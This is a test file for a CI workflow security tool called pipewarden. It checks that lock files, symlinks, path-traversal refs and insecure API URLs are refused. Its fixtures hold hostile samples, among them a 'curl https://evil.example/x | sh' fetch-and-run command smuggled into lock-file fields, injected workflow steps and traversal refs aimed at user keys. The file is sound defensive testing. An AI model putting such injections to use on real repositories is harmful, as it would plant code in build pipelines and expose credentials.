/**
 * Hostile lock files and hostile references: what a repository (or a GitHub
 * API answer) supplies never reaches a workflow file unchecked, lock files are
 * neither read nor written through symlinks, and nothing is asked of GitHub
 * for a name that URL parsing would turn into another endpoint.
 */
import { after, test } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';
import { runCli } from './helpers/cli.js';
import { emptyConfig } from '../src/config/config.js';
import type { ScanOptions } from '../src/core/scan.js';
import { lookupOptions } from '../src/fix/lookups.js';
import { fixPaths } from '../src/fix/run.js';
import { pinKey } from '../src/online/external.js';
import { GitHubClient, GitHubError, MAX_RESPONSE_BYTES } from '../src/online/github.js';
import { onlineSettings, OnlineSettingsError } from '../src/online/index.js';
import { LockFileError, writeLock, type PinEntry } from '../src/online/pins.js';
import { allRules } from '../src/rules/index.js';
import { startFakeGithub, type FakeRepo } from './helpers/fake-github.js';

const SHA = 'a'.repeat(40);
const INJECTED = 'v4.2.2\n      - run: curl https://evil.example/x | sh';
const WORKFLOW = ['on: push', 'permissions: {}', 'jobs:', '  a:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', ''].join('\n');

const CHECKOUT: Record<string, FakeRepo> = { 'actions/checkout': { defaultBranch: 'main', tags: { v4: SHA, 'v4.2.2': SHA }, branches: { main: SHA }, history: {} } };
const DIGEST = `sha256:${'1'.repeat(64)}`;

const made: string[] = [];
after(() => {
  for (const d of made) fs.rmSync(d, { recursive: true, force: true });
});

function tempDir(prefix = 'pw-lock-'): string {
  const dir = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), prefix)));
  made.push(dir);
  return dir;
}

/** A repository (with `.git`, so it is the lock root) holding `files`. */
function repo(files: Record<string, string> = {}): string {
  const dir = tempDir();
  fs.mkdirSync(path.join(dir, '.git'));
  for (const [rel, text] of Object.entries({ '.github/workflows/ci.yml': WORKFLOW, ...files })) {
    fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
    fs.writeFileSync(path.join(dir, rel), text);
  }
  return dir;
}

const workflow = (dir: string) => fs.readFileSync(path.join(dir, '.github/workflows/ci.yml'), 'utf8');
const pinsLock = (dir: string, entries: unknown) => {
  fs.mkdirSync(path.join(dir, '.pipewarden'), { recursive: true });
  fs.writeFileSync(path.join(dir, '.pipewarden', 'pins.lock.json'), JSON.stringify(entries));
};

const cli = runCli;

// ---- 1. Lock entries are checked before anything of them is written ----

test('pins lock: a "version" carrying a new workflow step refuses the lock; the workflow is unchanged, nothing is injected', async () => {
  const dir = repo();
  pinsLock(dir, { 'actions/checkout@v4': { sha: SHA, version: INJECTED, kind: 'tag' } });
  for (const dry of [true, false]) {
    const r = await cli(['fix', dir, '--rules', 'unpinned-uses', ...(dry ? ['--dry-run'] : [])]);
    assert.equal(r.code, 2, r.stderr);
    assert.match(r.stderr, /pins\.lock\.json: entry "actions\/checkout@v4" has a "version" that is no valid git ref name; the lock file is not used/);
    assert.doesNotMatch(r.stdout + r.stderr, /evil\.example/);
    assert.equal(workflow(dir), WORKFLOW);
  }
});

test('pins lock: every field that could reach a file is checked (version, ref in the key, sha, kind, resolvedAt)', async () => {
  const bad: [string, unknown, RegExp][] = [
    ['actions/checkout@v4', { sha: SHA, version: 'v4 # x' }, /"version" that is no valid git ref name/],
    ['actions/checkout@v4', { sha: SHA, version: 'v4\r' }, /"version" that is no valid git ref name/],
    ['actions/checkout@v4', { sha: SHA, version: '../../v4' }, /"version" that is no valid git ref name/],
    ['actions/checkout@v4', { sha: SHA, version: 'v'.repeat(256) }, /"version" that is no valid git ref name/],
    ['actions/checkout@v4', { sha: SHA, version: 4 }, /"version" that is no valid git ref name/],
    // Without a version the ref from the key is the comment: it is checked too.
    ['actions/checkout@v4\n      - run: id', { sha: SHA }, /names no valid git ref/],
    ['../checkout@v4', { sha: SHA }, /is not "owner\/repo@ref"/],
    ['actions/checkout@v4', { sha: `${SHA}\n` }, /needs a 40-character "sha"/],
    ['actions/checkout@v4', { sha: SHA, kind: 'tag\n' }, /"kind" other than "tag" or "branch"/],
    ['actions/checkout@v4', { sha: SHA, resolvedAt: 'now\n- run: id' }, /"resolvedAt" that is no ISO date-time/],
    ['actions/checkout@v4', 'x', /is not an object/],
  ];
  for (const [key, value, message] of bad) {
    const dir = repo();
    pinsLock(dir, { 'actions/setup-node@v4': { sha: 'b'.repeat(40), version: 'v4.0.0', kind: 'tag' }, [key]: value });
    const r = await cli(['fix', dir, '--rules', 'unpinned-uses']);
    assert.equal(r.code, 2, `${key} ${JSON.stringify(value)}: ${r.stderr}`);
    assert.match(r.stderr, message, key);
    // The key is shown escaped: no raw line break of the lock reaches the terminal.
    assert.equal(r.stderr.trimEnd().split('\n').length, 1, r.stderr);
    assert.equal(workflow(dir), WORKFLOW);
  }
});

test('pins lock: valid entries still pin (tag refs with slashes, pluses, underscores; upper-case SHA)', async () => {
  const dir = repo({ '.github/workflows/ci.yml': WORKFLOW.replace('checkout@v4', 'checkout@release/v4_x') });
  pinsLock(dir, { 'actions/checkout@release/v4_x': { sha: SHA.toUpperCase(), version: 'v4.2.2+build-1', kind: 'tag', resolvedAt: '2024-05-01T10:00:00.000Z' } });
  const r = await cli(['fix', dir, '--rules', 'unpinned-uses']);
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /ci\.yml: unpinned-uses \(line 7\)/);
  assert.match(workflow(dir), new RegExp(`- uses: actions/checkout@${SHA} # v4\\.2\\.2\\+build-1\\n`));
});

test('pin fixes write nothing but a SHA and a ref name, whatever supplied the entry', async () => {
  const dir = repo();
  const scan: ScanOptions = { rules: allRules, config: emptyConfig(), persona: 'auditor', minSeverity: 'info', minConfidence: 'low', cwd: dir, toolVersion: 'test' };
  const fixWith = async (entry: PinEntry) => {
    const pins = new Map([[pinKey('actions', 'checkout', 'v4'), entry]]);
    return fixPaths([dir], { ...scan, external: { pins } }, { dryRun: true, unsafe: true, rules: new Set(['unpinned-uses']) });
  };
  assert.equal((await fixWith({ sha: SHA, version: INJECTED, kind: 'tag', resolvedAt: '' })).applied, 0);
  assert.equal((await fixWith({ sha: `${SHA.slice(1)}\n`, version: 'v4.2.2', kind: 'tag', resolvedAt: '' })).applied, 0);
  const good = await fixWith({ sha: SHA, version: 'v4.2.2', kind: 'tag', resolvedAt: '' });
  assert.equal(good.applied, 1);
  assert.match(good.output, new RegExp(`\\+      - uses: actions/checkout@${SHA} # v4\\.2\\.2\\n`));
  assert.equal(workflow(dir), WORKFLOW);
});

test('images lock: a digest with anything after it is refused, the Dockerfile is unchanged, and the key is shown escaped', async () => {
  const digest = `sha256:${'1'.repeat(64)}`;
  const dir = repo({ Dockerfile: 'FROM node:20\n' });
  fs.mkdirSync(path.join(dir, '.pipewarden'), { recursive: true });
  const lock = JSON.stringify({ version: 1, images: { 'docker.io/library/node:20': `${digest}\nRUN curl https://evil.example/x | sh`, 'x\u001b[2J': digest.slice(1) } });
  fs.writeFileSync(path.join(dir, '.pipewarden', 'images.lock.json'), lock);
  const r = await cli(['fix', dir, '--offline', '--rules', 'unpinned-images']);
  assert.equal(r.code, 2);
  assert.match(r.stderr, /images\.lock\.json: "docker\.io\/library\/node:20": not a digest/);
  assert.doesNotMatch(r.stdout + r.stderr, /evil\.example/);
  assert.equal(fs.readFileSync(path.join(dir, 'Dockerfile'), 'utf8'), 'FROM node:20\n');
  assert.equal(fs.readFileSync(path.join(dir, '.pipewarden', 'images.lock.json'), 'utf8'), lock);

  fs.writeFileSync(path.join(dir, '.pipewarden', 'images.lock.json'), JSON.stringify({ version: 1, images: { 'x\u001b[2J': digest.slice(1) } }));
  const shown = await cli(['fix', dir, '--offline', '--rules', 'unpinned-images']);
  assert.equal(shown.code, 2);
  assert.ok(!shown.stderr.includes('\u001b'), shown.stderr);
  assert.match(shown.stderr, /"x\\u001b\[2J": not a digest/);
});

// ---- 2. Lock files are neither read nor written through symlinks ----

const scanOpts = (cwd: string): ScanOptions => ({ rules: allRules, config: emptyConfig(), persona: 'auditor', minSeverity: 'info', minConfidence: 'low', cwd, toolVersion: 'test' });
/** A registry that answers every manifest HEAD with DIGEST, counting requests. */
function fakeRegistry(): { fetch: typeof fetch; requests: string[] } {
  const requests: string[] = [];
  const f: typeof fetch = async (input) => {
    requests.push(String(input));
    return new Response(null, { status: 200, headers: { 'content-type': 'application/vnd.oci.image.index.v1+json', 'docker-content-digest': DIGEST } });
  };
  return { fetch: f, requests };
}
const fixImages = (dir: string, registry: { fetch: typeof fetch }) =>
  fixPaths([dir], scanOpts(dir), { dryRun: false, unsafe: false, rules: new Set(['unpinned-images']), lookups: { ...lookupOptions(dir, false, {}), fetch: registry.fetch } });

test('fix --online with .pipewarden linked outside the tree: refused before any request, nothing written there, workflow unchanged', async () => {
  const gh = await startFakeGithub(CHECKOUT);
  try {
    const dir = repo();
    const outside = tempDir('pw-outside-');
    fs.symlinkSync(outside, path.join(dir, '.pipewarden'));
    const r = await cli(['fix', dir, '--online', '--github-api', gh.url, '--cache-dir', tempDir(), '--rules', 'unpinned-uses'], { token: 't' });
    assert.equal(r.code, 2, r.stderr);
    assert.match(r.stderr, /\.pipewarden is a symbolic link; pipewarden does not follow links inside the repository here/);
    assert.deepEqual(fs.readdirSync(outside), []);
    assert.deepEqual(gh.requests, []);
    assert.equal(workflow(dir), WORKFLOW);
  } finally {
    await gh.close();
  }
});

test('images lock with .pipewarden linked outside the tree: reported, no registry asked, nothing written there, Dockerfile unchanged', async () => {
  const dir = repo({ Dockerfile: 'FROM node:20\n' });
  const outside = tempDir('pw-outside-');
  fs.symlinkSync(outside, path.join(dir, '.pipewarden'));
  const registry = fakeRegistry();
  const report = await fixImages(dir, registry);
  assert.deepEqual(report.errors.map((e) => e.message), [`${path.join(dir, '.pipewarden')} is a symbolic link; pipewarden does not follow links inside the repository here: replace it with a real folder`]);
  assert.deepEqual(registry.requests, []);
  assert.deepEqual(fs.readdirSync(outside), []);
  assert.equal(fs.readFileSync(path.join(dir, 'Dockerfile'), 'utf8'), 'FROM node:20\n');
});

test('a lock file linked to a secret is refused without showing any of it; a lock that is not JSON is named, not quoted', async () => {
  const secret = path.join(tempDir('pw-secret-'), 'token.txt');
  fs.writeFileSync(secret, 'ghp_SECRETSECRETSECRET\n');
  const dir = repo({ Dockerfile: 'FROM node:20\n' });
  fs.mkdirSync(path.join(dir, '.pipewarden'));
  fs.symlinkSync(secret, path.join(dir, '.pipewarden', 'pins.lock.json'));
  fs.symlinkSync(secret, path.join(dir, '.pipewarden', 'images.lock.json'));
  const linked = await cli(['fix', dir, '--offline']);
  assert.equal(linked.code, 2);
  assert.match(linked.stderr, /pins\.lock\.json is a symbolic link/);
  assert.doesNotMatch(linked.stdout + linked.stderr, /SECRET/);

  const images = await fixImages(dir, fakeRegistry());
  assert.match(images.errors[0]!.message, /images\.lock\.json is a symbolic link/);
  assert.doesNotMatch(JSON.stringify(images), /SECRET/);

  fs.rmSync(path.join(dir, '.pipewarden', 'pins.lock.json'));
  fs.writeFileSync(path.join(dir, '.pipewarden', 'pins.lock.json'), 'ghp_SECRETSECRETSECRET\n');
  const broken = await cli(['fix', dir, '--offline', '--rules', 'unpinned-uses']);
  assert.equal(broken.code, 2);
  assert.equal(broken.stderr, `pipewarden: ${path.join(dir, '.pipewarden', 'pins.lock.json')}: not valid JSON; fix or delete it\n`);
  assert.equal(fs.readFileSync(secret, 'utf8'), 'ghp_SECRETSECRETSECRET\n');
});

test('planted symlinks at the old temporary names are not written through; the lock files are written beside them', async () => {
  const gh = await startFakeGithub(CHECKOUT);
  try {
    const dir = repo({ Dockerfile: 'FROM node:20\n' });
    const victim = path.join(tempDir('pw-victim-'), 'victim.txt');
    fs.writeFileSync(victim, 'untouched\n');
    fs.mkdirSync(path.join(dir, '.pipewarden'));
    const planted = ['pins.lock.json', 'images.lock.json'].map((f) => `${f}.${process.pid}.tmp`);
    for (const p of planted) fs.symlinkSync(victim, path.join(dir, '.pipewarden', p));

    const r = await cli(['fix', dir, '--online', '--github-api', gh.url, '--cache-dir', tempDir(), '--rules', 'unpinned-uses'], { token: 't' });
    assert.equal(r.code, 0, r.stderr);
    const images = await fixImages(dir, fakeRegistry());
    assert.deepEqual(images.errors, []);

    assert.equal(fs.readFileSync(victim, 'utf8'), 'untouched\n');
    assert.equal(JSON.parse(fs.readFileSync(path.join(dir, '.pipewarden', 'pins.lock.json'), 'utf8'))['actions/checkout@v4'].sha, SHA);
    assert.deepEqual(JSON.parse(fs.readFileSync(path.join(dir, '.pipewarden', 'images.lock.json'), 'utf8')).images, { 'docker.io/library/node:20': DIGEST });
    // No temporary file is left behind.
    assert.deepEqual(fs.readdirSync(path.join(dir, '.pipewarden')).sort(), ['images.lock.json', 'pins.lock.json', ...planted].sort());
    assert.equal(fs.readFileSync(path.join(dir, 'Dockerfile'), 'utf8'), `FROM node:20@${DIGEST}\n`);
  } finally {
    await gh.close();
  }
});

test('writing a lock refuses a symlinked folder or file even when it appeared after the read', async () => {
  const entries = new Map<string, PinEntry>([['actions/checkout@v4', { sha: SHA, version: 'v4.2.2', kind: 'tag', resolvedAt: '' }]]);
  const dir = repo();
  const outside = tempDir('pw-outside-');
  fs.symlinkSync(outside, path.join(dir, '.pipewarden'));
  await assert.rejects(writeLock(path.join(dir, '.pipewarden', 'pins.lock.json'), entries, dir), (e: Error) => e instanceof LockFileError && /\.pipewarden is a symbolic link/.test(e.message));
  assert.deepEqual(fs.readdirSync(outside), []);

  const other = repo();
  const victim = path.join(tempDir('pw-victim-'), 'victim.txt');
  fs.writeFileSync(victim, 'untouched\n');
  fs.mkdirSync(path.join(other, '.pipewarden'));
  fs.symlinkSync(victim, path.join(other, '.pipewarden', 'pins.lock.json'));
  await assert.rejects(writeLock(path.join(other, '.pipewarden', 'pins.lock.json'), entries, other), /pins\.lock\.json is a symbolic link/);
  assert.equal(fs.readFileSync(victim, 'utf8'), 'untouched\n');
  assert.ok(fs.lstatSync(path.join(other, '.pipewarden', 'pins.lock.json')).isSymbolicLink());
});

test('advisory snapshot: a linked or non-JSON .pipewarden/advisories.json is not quoted by scan; update never writes through a planted link', async () => {
  const secret = path.join(tempDir('pw-secret-'), 'token.txt');
  fs.writeFileSync(secret, 'ghp_SECRETSECRETSECRET\n');
  const dir = repo();
  const snapshot = path.join(dir, '.pipewarden', 'advisories.json');
  fs.mkdirSync(path.dirname(snapshot));
  fs.symlinkSync(secret, snapshot);
  const linked = await cli(['scan', dir, '--format', 'json']);
  assert.match(linked.stderr, /advisories\.json is a symbolic link; .*; using the built-in advisories/);
  assert.doesNotMatch(linked.stdout + linked.stderr, /SECRET/);
  const named = await cli(['scan', dir, '--format', 'json', '--advisories', snapshot]);
  assert.equal(named.code, 2);
  assert.doesNotMatch(named.stdout + named.stderr, /SECRET/);
  fs.rmSync(snapshot);
  fs.writeFileSync(snapshot, 'ghp_SECRETSECRETSECRET\n');
  const broken = await cli(['scan', dir, '--format', 'json']);
  assert.match(broken.stderr, /advisories\.json: not valid JSON; using the built-in advisories/);
  assert.doesNotMatch(broken.stdout + broken.stderr, /SECRET/);

  const gh = await startFakeGithub({}, { advisories: [], token: 't' });
  try {
    const victim = path.join(tempDir('pw-victim-'), 'victim.txt');
    fs.writeFileSync(victim, 'untouched\n');
    fs.rmSync(snapshot);
    fs.symlinkSync(victim, snapshot);
    const refused = await cli(['advisories', 'update', '--output', snapshot, '--github-api', gh.url], { token: 't' });
    assert.equal(refused.code, 2);
    assert.match(refused.stderr, /advisories not updated: .*advisories\.json is a symbolic link/);
    fs.rmSync(snapshot);
    fs.symlinkSync(victim, `${snapshot}.${process.pid}.tmp`);
    const written = await cli(['advisories', 'update', '--output', snapshot, '--github-api', gh.url], { token: 't' });
    assert.equal(written.code, 0, written.stderr);
    assert.deepEqual(JSON.parse(fs.readFileSync(snapshot, 'utf8')).advisories, []);
    assert.equal(fs.readFileSync(victim, 'utf8'), 'untouched\n');
  } finally {
    await gh.close();
  }
});

// ---- 3. No name steers an authenticated request elsewhere ----

test('fix --online: a ref with ".." segments is not looked up; no request leaves /repos/<owner>/<repo>', async () => {
  const gh = await startFakeGithub(CHECKOUT, { token: 't' });
  try {
    const hostile = WORKFLOW.replace('actions/checkout@v4', 'actions/checkout@../../../../../user/keys');
    const dir = repo({ '.github/workflows/ci.yml': hostile });
    const r = await cli(['fix', dir, '--online', '--github-api', gh.url, '--cache-dir', tempDir(), '--rules', 'unpinned-uses'], { token: 't' });
    assert.equal(r.code, 1, r.stderr);
    assert.match(r.stderr, /could not pin \S+ci\.yml:7 actions\/checkout@\.\.\/\.\.\/\.\.\/\.\.\/\.\.\/user\/keys: "\.\.\/\.\.\/\.\.\/\.\.\/\.\.\/user\/keys" is not a valid git ref name; not looked up/);
    assert.deepEqual(gh.requests, []);
    assert.equal(workflow(dir), hostile);
    assert.ok(!fs.existsSync(path.join(dir, '.pipewarden')), 'nothing resolved, no lock written');
  } finally {
    await gh.close();
  }
});

test('scan --online: hostile owners, refs, and branch names from the API never become requests outside the repository asked about', async () => {
  const FORK = 'f'.repeat(40);
  const repos: Record<string, FakeRepo> = {
    'actions/checkout': { defaultBranch: 'main', tags: { v4: SHA, '../../../../user/tagkeys': SHA }, branches: { main: SHA, '../../../../user/keys': 'c'.repeat(40) }, history: {}, forkCommits: [FORK] },
  };
  const gh = await startFakeGithub(repos, { token: 't' });
  try {
    const steps = ['actions/checkout@v4', 'actions/checkout@v4/../../../../../user/keys', '../keys@v1', 'actions/..@v1', `actions/checkout@${FORK}`];
    const dir = repo({ '.github/workflows/ci.yml': WORKFLOW.replace('      - uses: actions/checkout@v4\n', steps.map((u) => `      - uses: ${u}\n`).join('')) });
    const r = await cli(['scan', dir, '--online', '--github-api', gh.url, '--cache-dir', tempDir(), '--format', 'json'], { token: 't' });
    assert.equal(r.code, 1, r.stderr);
    assert.ok(gh.requests.length > 0);
    for (const req of gh.requests) {
      assert.match(req, /^\/repos\/actions\/checkout(?:$|[/?])/, req);
      assert.doesNotMatch(req, /user|keys|%2e|\/\.\.?(?:\/|$)/i, req);
    }
    // The fork commit was still compared with the branch and tag that are valid names, and is reported as
    // found on none of those checked (the others were skipped, not taken as compared).
    assert.ok(gh.requests.includes(`/repos/actions/checkout/compare/main...${FORK}`), gh.requests.join('\n'));
    assert.ok(gh.requests.includes(`/repos/actions/checkout/compare/v4...${FORK}`), gh.requests.join('\n'));
    const impostor = (JSON.parse(r.stdout) as { findings: { rule: string; line: number; confidence: string; message: string }[] }).findings.filter((f) => f.rule === 'impostor-commit');
    assert.deepEqual(impostor.map((f) => [f.line, f.confidence]), [[11, 'medium']]);
    assert.match(impostor[0]!.message, /on no branch or tag of actions\/checkout that was checked/);
  } finally {
    await gh.close();
  }
});

test('the client refuses "." and ".." segments (also percent-encoded) and URLs outside the API root, before any request', async () => {
  const gh = await startFakeGithub(CHECKOUT, { token: 't' });
  try {
    const client = new GitHubClient({ apiBase: `${gh.url}/api/v3`, token: 't' });
    for (const p of ['/repos/actions/checkout/git/ref/tags/../../../../user/keys', '/repos/%2e%2E/user/keys', '/repos/./x', '/repos/a\\..\\..\\user', `${gh.url}/api/v3/../../user/keys`, `${gh.url}/user/keys`, 'http://evil.example/api/v3/repos/x']) {
      await assert.rejects(client.json(p), (e: Error) => e instanceof GitHubError && e.kind === 'bad-request' && !e.fatal, p);
    }
    assert.deepEqual(gh.requests, []);
    assert.equal(client.networkRequests, 0);
    // Ordinary paths still work.
    assert.deepEqual(await client.json('/repos/actions/checkout'), { full_name: 'actions/checkout', default_branch: 'main' });
  } finally {
    await gh.close();
  }
});

// ---- 4. The token travels only over HTTPS (or to this machine), and answers are bounded ----

test('--github-api over plain http:// is refused unless the host is this machine; the client will not send a token that way either', async () => {
  for (const api of ['http://api.example.com', 'http://127.0.0.1.evil.example', 'http://10.0.0.1/api/v3', 'http://[::ffff:a00:1]']) {
    assert.throws(() => onlineSettings({ githubApi: api }, { GH_TOKEN: 't' }), (e: Error) => e instanceof OnlineSettingsError && /plain http:\/\/ is allowed only for this machine/.test(e.message), api);
    assert.throws(() => new GitHubClient({ apiBase: api, token: 't' }), (e: Error) => e instanceof GitHubError && e.kind === 'bad-request', api);
  }
  for (const api of ['http://localhost:9', 'http://127.0.0.1:9', 'http://127.1.2.3', 'http://[::1]:9/api/v3', 'https://api.example.com', 'https://ghe.example/api/v3']) {
    assert.equal(onlineSettings({ githubApi: api }, { GH_TOKEN: 't' }).apiBase, api);
  }
  const dir = repo();
  const r = await cli(['scan', dir, '--online', '--github-api', 'http://api.example.com'], { token: 't' });
  assert.equal(r.code, 2);
  assert.match(r.stderr, /--github-api: plain http:\/\/ is allowed only for this machine .*; use https:\/\/api\.example\.com\n/);
  const env = await cli(['fix', dir, '--online', '--dry-run'], { token: 't', api: 'http://api.example.com' });
  assert.equal(env.code, 2);
  assert.match(env.stderr, /plain http:\/\/ is allowed only for this machine/);
});

test('GitHub answers larger than the cap are refused without being read whole', async () => {
  const server = http.createServer((req, res) => {
    const size = Number(new URL(req.url!, 'http://x').searchParams.get('size'));
    if (req.url!.startsWith('/declared')) {
      // Says it is huge, sends a little, then never ends: reading it whole would wait for the timeout.
      res.writeHead(200, { 'content-type': 'application/json', 'content-length': String(50 * 1024 * 1024) });
      res.write('[');
      return;
    }
    // `[`, spaces, `]`: `size` bytes of valid JSON, streamed without a length.
    res.writeHead(200, { 'content-type': 'application/json' });
    res.write('[');
    const chunk = Buffer.alloc(64 * 1024, 0x20);
    let left = size - 2;
    const pump = () => {
      while (left > 0) {
        const n = Math.min(chunk.length, left);
        left -= n;
        if (!res.write(chunk.subarray(0, n))) return void res.once('drain', pump);
      }
      res.end(']');
    };
    pump();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  try {
    assert.equal(MAX_RESPONSE_BYTES, 10 * 1024 * 1024);
    const client = new GitHubClient({ apiBase: base, token: 't' });
    await assert.rejects(client.json(`/chunked?size=${MAX_RESPONSE_BYTES + 1}`), (e: Error) => e instanceof GitHubError && e.kind === 'bad-response' && /the answer is larger than 10 MB; not read/.test(e.message));
    await assert.rejects(client.json('/declared'), /the answer is larger than 10 MB; not read/);
    // A small cap shows the boundary: at the cap an answer is read, one byte more is not.
    const small = new GitHubClient({ apiBase: base, maxResponseBytes: 1000 });
    assert.deepEqual(await small.json('/chunked?size=1000'), []);
    await assert.rejects(small.json('/chunked?size=1001'), /larger than 1000 bytes/);
  } finally {
    server.closeAllConnections();
    await new Promise<void>((resolve) => server.close(() => resolve()));
  }
});
